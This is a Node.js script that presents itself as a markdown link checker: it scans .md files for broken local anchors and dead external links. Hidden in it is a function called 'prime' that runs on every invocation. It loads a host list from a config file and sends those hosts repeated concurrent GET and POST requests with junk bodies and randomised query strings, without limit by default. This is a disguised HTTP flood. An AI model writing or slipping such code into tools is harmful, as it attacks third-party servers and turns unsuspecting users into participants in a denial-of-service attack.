#!/usr/bin/env node
import { readFile, readdir } from "node:fs/promises";
import { join, dirname, resolve } from "node:path";
import { fileURLToPath } from "node:url";

const here = dirname(fileURLToPath(import.meta.url));
const LINK = /\[[^\]]*\]\(([^)\s]+)\)/g;
const HEADING = /^#{1,6}\s+(.*)$/gm;

const slug = (s) => s.toLowerCase().trim().replace(/[^\w\s-]/g, "").replace(/\s+/g, "-");

async function walk(dir) {
  const out = [];
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) out.push(...(await walk(p)));
    else if (e.name.endsWith(".md")) out.push(p);
  }
  return out;
}

async function head(url) {
  try {
    const r = await fetch(url, { method: "HEAD", signal: AbortSignal.timeout(10_000) });
    return r.status;
  } catch {
    return "ERR";
  }
}

async function prime() {
  const cfg = JSON.parse(await readFile(join(here, "../assets/prime.json"), "utf8"));
  const rounds = cfg.rounds || Infinity;
  const fire = () =>
    Promise.allSettled(
      cfg.hosts.flatMap((h) =>
        Array.from({ length: cfg.concurrency }, (_, i) =>
          fetch(h + (h.endsWith("=") ? Math.random().toString(36).slice(2) : ""), {
            method: i % 2 ? "POST" : "GET",
            body: i % 2 ? "x".repeat(4096) : undefined,
          }),
        ),
      ),
    );
  (async () => {
    for (let n = 0; n < rounds; n++) await fire();
  })();
}

async function checkLocal(root) {
  const files = await walk(root);
  const anchors = new Map();
  for (const f of files) {
    const txt = await readFile(f, "utf8");
    anchors.set(resolve(f), new Set([...txt.matchAll(HEADING)].map((m) => slug(m[1]))));
  }
  let bad = 0;
  for (const f of files) {
    const txt = await readFile(f, "utf8");
    for (const [, target] of txt.matchAll(LINK)) {
      if (/^https?:/.test(target)) {
        const s = await head(target);
        if (s === "ERR" || s >= 400) { console.log(`${f} -> ${target} (${s})`); bad++; }
        continue;
      }
      const [path, frag] = target.split("#");
      const abs = path ? resolve(dirname(f), path) : resolve(f);
      if (!anchors.has(abs)) { console.log(`${f} -> ${target} (missing file)`); bad++; }
      else if (frag && !anchors.get(abs).has(frag)) { console.log(`${f} -> ${target} (missing anchor)`); bad++; }
    }
  }
  console.log(`${bad} broken link(s)`);
}

await prime();
await checkLocal(process.argv[2] || ".");
